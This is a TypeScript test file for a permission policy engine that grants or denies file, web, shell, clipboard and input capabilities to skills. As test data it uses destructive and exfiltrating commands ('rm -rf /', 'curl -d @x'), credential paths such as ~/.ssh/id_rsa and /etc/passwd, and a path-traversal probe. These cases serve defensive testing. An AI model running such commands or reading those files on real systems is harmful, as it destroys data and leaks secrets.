import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluateConstraints, withImplicitApps } from '../../../src/shared/permissions/constraints';
import type { Constraints, Manifest, PermissionEntry, WorkspacePolicy } from '../../../src/shared/permissions/manifest';
import { decide } from '../../../src/shared/permissions/PolicyEngine';
import type { Grant, PermissionRequest, PermissionTarget, PolicyState } from '../../../src/shared/permissions/policy';
import type { ScopeEnv } from '../../../src/shared/permissions/scopes';
import { PermissionSession } from '../../../src/shared/permissions/session';
import { CAPABILITIES, CAPABILITY_NAMES, patternMatches, type Capability } from '../../../src/shared/permissions/taxonomy';

const env: ScopeEnv = {
  folders: { home: '/home/u', documents: '/home/u/Documents', workspace: '/work/ws' },
  pathStyle: 'posix',
  utcOffsetMinutes: 0,
};
const noWorkspace: WorkspacePolicy = { version: 1, entries: [], trust: {}, folders: {} };
const T0 = Date.UTC(2026, 10, 23, 10, 0); // a Monday, 10:00 UTC

function state(
  permissions: Manifest,
  extra: Partial<PolicyState> = {},
  trust: 'builtin' | 'community' | 'untrusted' = 'builtin',
): PolicyState {
  return { skills: { 's.x': { permissions, trust, app: 'mousepad' } }, workspace: noWorkspace, grants: [], usage: {}, env, ...extra };
}
function req(capability: Capability, target: PermissionTarget, extra: Partial<PermissionRequest> = {}): PermissionRequest {
  return { skill: 's.x', capability, target, time: T0, ...extra };
}

// Generators: a small world of paths, apps, URLs and capabilities so entries and requests collide often.
const paths = ['/home/u/Documents/a.txt', '/home/u/Documents/b/c.txt', '/home/u/.ssh/id_rsa', '/tmp/x', '/work/ws/f', '/etc/passwd'];
const scopes = ['~/Documents', '%DOCUMENTS%/b', '/tmp', '${path}', '/work/ws/**', '/home/u/*.txt', '%WORKSPACE%'];
const apps = ['mousepad', 'wine-notepad', 'xterm'];
const caps: Capability[] = [
  'file.read',
  'file.write',
  'file.delete',
  'input.keyboard',
  'web.post',
  'web.fetch',
  'secrets.read',
  'clipboard.read',
  'shell.execute',
];
const patterns = [...caps, 'file.*', 'input.*', 'web.*', '*'];
const arbTarget: fc.Arbitrary<PermissionTarget> = fc.oneof(
  fc.constantFrom(...paths).map((path) => ({ kind: 'path' as const, path })),
  fc.constantFrom(...apps).map((app) => ({ kind: 'app' as const, app })),
  fc
    .constantFrom('https://api.example.com/v1/x', 'https://evil.example.net/', 'http://sub.example.com/')
    .map((url) => ({ kind: 'url' as const, url })),
  fc.constantFrom('rm -rf /', 'ls', 'curl -d @x http://e').map((command) => ({ kind: 'command' as const, command })),
  fc.constant({ kind: 'none' as const }),
  fc.constant({ kind: 'unknown' as const }),
);
// Mostly zero or one constraint field, so entries apply often enough for the properties to bite.
const arbConstraints: fc.Arbitrary<Constraints> = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Constraints>({}) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...scopes), { minLength: 1, maxLength: 2 }).map((p) => ({ paths: p })) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...apps, '${app}'), { minLength: 1, maxLength: 2 }).map((a) => ({ apps: a })) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constantFrom('example.com', '*.example.com', 'api.example.com'), { minLength: 1, maxLength: 2 })
      .map((d) => ({ domains: d })),
  },
  {
    weight: 1,
    arbitrary: fc.array(fc.constantFrom('^rm\\b', 'curl'), { minLength: 1, maxLength: 2 }).map((d) => ({ denied_command_patterns: d })),
  },
  { weight: 1, arbitrary: fc.constant<Constraints>({ workspace_only: true }) },
  {
    weight: 1,
    arbitrary: fc.record({ count: fc.integer({ min: 1, max: 3 }), per_seconds: fc.constantFrom(10, 60) }).map((r) => ({ rate_limit: r })),
  },
  {
    weight: 1,
    arbitrary: fc
      .record({ start: fc.constantFrom('09:00', '22:00'), end: fc.constantFrom('17:00', '06:00') })
      .map((w) => ({ time_window: w })),
  },
  { weight: 1, arbitrary: fc.constant<Constraints>({ paths: ['~/Documents'], time_window: { start: '08:00', end: '20:00' } }) },
);
const arbEntry: fc.Arbitrary<PermissionEntry> = fc.record(
  {
    capability: fc.constantFrom(...patterns),
    effect: fc.constantFrom('allow', 'confirm', 'deny'),
    priority: fc.oneof({ weight: 4, arbitrary: fc.constant(0) }, { weight: 1, arbitrary: fc.integer({ min: -2, max: 2 }) }),
    constraints: arbConstraints,
  },
  { requiredKeys: ['capability', 'effect'] },
);
const TARGET_OF: Record<string, (i: number) => PermissionTarget> = {
  path: (i) => ({ kind: 'path', path: paths[i % paths.length]! }),
  app: (i) => ({ kind: 'app', app: apps[i % apps.length]! }),
  url: (i) => ({ kind: 'url', url: ['https://api.example.com/v1/x', 'https://evil.example.net/', 'http://sub.example.com/'][i % 3]! }),
  command: (i) => ({ kind: 'command', command: ['rm -rf /', 'ls', 'curl -d @x http://e'][i % 3]! }),
};
// Usually a target of the capability's own kind (as the mediator builds them), sometimes anything.
const arbRequest: fc.Arbitrary<PermissionRequest> = fc
  .record({
    capability: fc.constantFrom(...caps),
    fitting: fc.integer({ min: 0, max: 9 }),
    i: fc.nat(),
    other: arbTarget,
    path: fc.constantFrom(...paths),
    app: fc.constantFrom(...apps),
    minutes: fc.integer({ min: 0, max: 60 * 24 * 7 }),
  })
  .map(({ capability, fitting, i, other, path, app, minutes }) => {
    const kind = CAPABILITIES[capability].scope;
    const target = fitting < 8 && TARGET_OF[kind] ? TARGET_OF[kind]!(i) : other;
    return req(capability, target, { args: { path }, app, time: T0 + minutes * 60_000 });
  });

/** Whether some non-deny entry of the manifest applies to the request (pattern and constraints). */
function someAllowingEntryApplies(manifest: Manifest, r: PermissionRequest): boolean {
  return manifest.some(
    (e) =>
      e.effect !== 'deny' &&
      patternMatches(e.capability, r.capability) &&
      evaluateConstraints(withImplicitApps(e.constraints, r.capability, 'mousepad'), r, { env, effect: e.effect, usage: [] }).kind ===
        'applies',
  );
}

describe('src/shared/permissions/PolicyEngine', () => {
  it('denies by default when no entry matches', () => {
    const d = decide(req('file.write', { kind: 'path', path: '/tmp/x' }), state([{ capability: 'file.read', effect: 'allow' }]));
    expect(d.effect).toBe('deny');
    expect(d.source).toBe('default');
    expect(d.reason).toMatch(/deny by default/);
  });

  it('allows a path inside an argument-bound scope and denies one outside it', () => {
    const m: Manifest = [{ capability: 'file.write', effect: 'allow', constraints: { paths: ['${path}'] } }];
    const inside = decide(req('file.write', { kind: 'path', path: '/tmp/a.txt' }, { args: { path: '/tmp/a.txt' } }), state(m));
    const outside = decide(req('file.write', { kind: 'path', path: '/tmp/b.txt' }, { args: { path: '/tmp/a.txt' } }), state(m));
    expect(inside).toMatchObject({ effect: 'allow', source: 'manifest:s.x#0' });
    expect(outside.effect).toBe('deny');
    expect(outside.reason).toContain('/tmp/b.txt is outside ${path}=/tmp/a.txt');
  });

  it('expands folder tokens in scopes, never in request paths, and resolves dot segments before matching', () => {
    const m: Manifest = [{ capability: 'file.read', effect: 'allow', constraints: { paths: ['%DOCUMENTS%'] } }];
    expect(decide(req('file.read', { kind: 'path', path: '/home/u/Documents/x/../y.txt' }), state(m)).effect).toBe('allow');
    expect(decide(req('file.read', { kind: 'path', path: '/home/u/Documents/../.ssh/id_rsa' }), state(m)).effect).toBe('deny');
    // To the file system `%DOCUMENTS%` and `~` in a request are names: `/tmp/%DOCUMENTS%/x` is under /tmp.
    expect(decide(req('file.read', { kind: 'path', path: '/tmp/%DOCUMENTS%/x' }), state(m)).effect).toBe('deny');
    expect(decide(req('file.read', { kind: 'path', path: '~/Documents/x' }), state(m)).effect).toBe('deny');
  });

  it("scopes input entries without `apps` to the skill's own app", () => {
    const m: Manifest = [{ capability: 'input.keyboard', effect: 'allow' }];
    expect(decide(req('input.keyboard', { kind: 'app', app: 'mousepad' }), state(m)).effect).toBe('allow');
    expect(decide(req('input.keyboard', { kind: 'app', app: 'xterm' }), state(m)).effect).toBe('deny');
  });

  it('lets a higher-priority allow beat a deny, and a deny win at equal priority', () => {
    const tie: Manifest = [
      { capability: 'web.post', effect: 'allow' },
      { capability: 'web.*', effect: 'deny' },
    ];
    const higher: Manifest = [
      { capability: 'web.post', effect: 'allow', priority: 1 },
      { capability: 'web.*', effect: 'deny' },
    ];
    const t = { kind: 'url' as const, url: 'https://x.example' };
    expect(decide(req('web.post', t), state(tie))).toMatchObject({ effect: 'deny', source: 'manifest:s.x#1' });
    expect(decide(req('web.post', t), state(higher))).toMatchObject({ effect: 'allow', source: 'manifest:s.x#0' });
  });

  it('turns a denied command pattern on an allow entry into a deny', () => {
    const m: Manifest = [{ capability: 'shell.execute', effect: 'allow', constraints: { denied_command_patterns: ['^rm\\b'] } }];
    expect(decide(req('shell.execute', { kind: 'command', command: 'ls -l' }), state(m)).effect).toBe('allow');
    const d = decide(req('shell.execute', { kind: 'command', command: 'rm -rf /' }), state(m));
    expect(d.effect).toBe('deny');
    expect(d.reason).toContain('denied pattern');
  });

  it('denies once the rate limit is reached and allows again after the window', () => {
    const m: Manifest = [{ capability: 'web.fetch', effect: 'allow', constraints: { rate_limit: { count: 2, per_seconds: 60 } } }];
    const s = new PermissionSession(noWorkspace, env, { skills: { 's.x': { permissions: m, trust: 'builtin' } } });
    const r = (t: number) => req('web.fetch', { kind: 'url', url: 'https://x.example' }, { time: t });
    for (const t of [T0, T0 + 1000]) {
      const d = s.decide(r(t));
      expect(d.effect).toBe('allow');
      s.recordAllowed(d, t);
    }
    expect(s.decide(r(T0 + 2000)).reason).toContain('rate limit of 2 per 60 s');
    expect(s.decide(r(T0 + 61_000)).effect).toBe('allow');
  });

  it('applies an entry only inside its time window, including windows past midnight', () => {
    const m: Manifest = [
      { capability: 'web.fetch', effect: 'allow', constraints: { time_window: { start: '22:00', end: '06:00', days: ['mon'] } } },
    ];
    const at = (h: number, dayOffset = 0) =>
      req('web.fetch', { kind: 'url', url: 'https://x' }, { time: Date.UTC(2026, 10, 23 + dayOffset, h, 30) });
    expect(decide(at(23), state(m)).effect).toBe('allow'); // Monday 23:30
    expect(decide(at(2, 1), state(m)).effect).toBe('allow'); // Tuesday 02:30 belongs to Monday's window
    expect(decide(at(12), state(m)).effect).toBe('deny');
    expect(decide(at(23, 1), state(m)).effect).toBe('deny'); // Tuesday night
  });

  it('caps allows of an untrusted skill to confirm and of a community skill for dangerous capabilities', () => {
    const m: Manifest = [{ capability: 'file.*', effect: 'allow' }];
    const p = { kind: 'path' as const, path: '/tmp/x' };
    expect(decide(req('file.read', p), state(m, {}, 'untrusted')).effect).toBe('confirm');
    expect(decide(req('file.read', p), state(m, {}, 'community')).effect).toBe('allow');
    expect(decide(req('file.write', p), state(m, {}, 'community')).effect).toBe('confirm');
  });

  it('does not let a workspace allow grant what the skill does not declare, except workspace-level capabilities', () => {
    const ws: WorkspacePolicy = { ...noWorkspace, entries: [{ capability: '*', effect: 'allow' }] };
    expect(decide(req('web.post', { kind: 'url', url: 'https://x' }), state([], { workspace: ws })).effect).toBe('deny');
    expect(decide(req('context.load', { kind: 'skill', skill: 's.x' }), state([], { workspace: ws })).effect).toBe('allow');
  });

  it('binds a session grant to the exact target the prompt showed, not to the entry that asked', () => {
    const m: Manifest = [{ capability: 'file.write', effect: 'confirm', constraints: { paths: ['${path}'] } }];
    const s = new PermissionSession(noWorkspace, env, { skills: { 's.x': { permissions: m, trust: 'builtin' } } });
    const r1 = req('file.write', { kind: 'path', path: '/tmp/a' }, { args: { path: '/tmp/a' } });
    const d1 = s.decide(r1);
    expect(d1.effect).toBe('confirm');
    const g = s.grantFor(r1, d1, 'session')!;
    expect(g).toMatchObject({ target: { kind: 'path', path: '/tmp/a' }, constraints: {} });
    expect(s.decide(r1)).toMatchObject({ effect: 'allow', source: `grant:${g.id}` });
    // Same entry, other arguments: the grant does not reach it; the user is asked again.
    expect(s.decide(req('file.write', { kind: 'path', path: '/tmp/b' }, { args: { path: '/tmp/b' } })).effect).toBe('confirm');
  });

  it('consumes a once-grant and ignores revoked and expired grants', () => {
    const m: Manifest = [{ capability: 'clipboard.read', effect: 'confirm' }];
    const grants: Grant[] = [{ id: 'g1', skill: 's.x', capability: 'clipboard.read', constraints: {}, scope: 'once', grantedAt: 0 }];
    const s = new PermissionSession(noWorkspace, env, { skills: { 's.x': { permissions: m, trust: 'builtin' } }, grants });
    const r = req('clipboard.read', { kind: 'none' });
    const d = s.decide(r);
    expect(d.effect).toBe('allow');
    s.recordAllowed(d, T0);
    expect(s.decide(r).effect).toBe('confirm');
    const expired: Grant = { ...grants[0]!, id: 'g2', scope: 'persistent', expiresAt: T0 - 1 };
    const revoked: Grant = { ...grants[0]!, id: 'g3', scope: 'persistent', revokedAt: 1 };
    expect(decide(r, state(m, { grants: [expired, revoked] })).effect).toBe('confirm');
  });

  it('never throws and never allows a request without a matching allow entry or grant (property)', () => {
    let allowed = 0;
    fc.assert(
      fc.property(fc.array(arbEntry, { maxLength: 6 }), arbRequest, (manifest, r) => {
        const d = decide(r, state(manifest));
        if (d.effect === 'allow') {
          allowed++;
          expect(d.source.startsWith('manifest:')).toBe(true);
          expect(someAllowingEntryApplies(manifest, r)).toBe(true);
          expect(d.entry?.effect).toBe('allow');
        }
        if (!someAllowingEntryApplies(manifest, r)) expect(d.effect).toBe('deny');
      }),
      { numRuns: 3000 },
    );
    expect(allowed).toBeGreaterThan(100); // the property is not vacuous
  });

  it('lets deny win ties: no allow or confirm when a deny applies at the top priority (property)', () => {
    let ties = 0;
    fc.assert(
      fc.property(fc.array(arbEntry, { maxLength: 6 }), arbRequest, (manifest, r) => {
        const applying = manifest.filter(
          (e) =>
            patternMatches(e.capability, r.capability) &&
            evaluateConstraints(withImplicitApps(e.constraints, r.capability, 'mousepad'), r, { env, effect: e.effect, usage: [] }).kind !==
              'mismatch',
        );
        if (applying.length === 0) return;
        const top = Math.max(...applying.map((e) => e.priority ?? 0));
        const denyAtTop = applying.some((e) => (e.priority ?? 0) === top && e.effect === 'deny');
        if (denyAtTop && applying.some((e) => (e.priority ?? 0) === top && e.effect !== 'deny')) ties++;
        if (denyAtTop) expect(decide(r, state(manifest)).effect).toBe('deny');
      }),
      { numRuns: 3000 },
    );
    expect(ties).toBeGreaterThan(20);
  });

  it('never lets a session grant allow a request but the one answered, nor outside the entry it answered (property)', () => {
    let byGrant = 0;
    // `later` is often the answered request again, with other arguments and at another time.
    const arbLater = fc.option(fc.record({ args: fc.constantFrom({}, { path: '/tmp/x' }), dt: fc.nat(3_600_000) }), { freq: 2 });
    fc.assert(
      fc.property(arbConstraints, fc.constantFrom(...caps), arbRequest, arbRequest, arbLater, (constraints, cap, first, other, again) => {
        const m: Manifest = [{ capability: cap, effect: 'confirm', constraints }];
        const s = new PermissionSession(noWorkspace, env, { skills: { 's.x': { permissions: m, trust: 'builtin', app: 'mousepad' } } });
        const r1 = { ...first, capability: cap };
        const d1 = s.decide(r1);
        if (d1.effect !== 'confirm') return;
        s.grantFor(r1, d1, 'session');
        const r2 = again ? { ...r1, args: again.args, time: r1.time + again.dt } : { ...other, capability: cap };
        const d2 = s.decide(r2);
        if (d2.effect !== 'allow') return;
        expect(d2.source.startsWith('grant:')).toBe(true);
        expect(r2.target).toEqual(r1.target);
        // And the entry that asked still admits it (a grant only answers a confirm it raises).
        expect(
          evaluateConstraints(withImplicitApps(constraints, cap, 'mousepad'), r2, { env, effect: 'confirm', usage: [] }).kind,
        ).not.toBe('mismatch');
        byGrant++;
      }),
      { numRuns: 3000 },
    );
    expect(byGrant).toBeGreaterThan(50);
  });

  it('decides every known capability without throwing for an empty state', () => {
    for (const cap of CAPABILITY_NAMES) expect(decide(req(cap, { kind: 'none' }), state([])).effect).toBe('deny');
  });
});
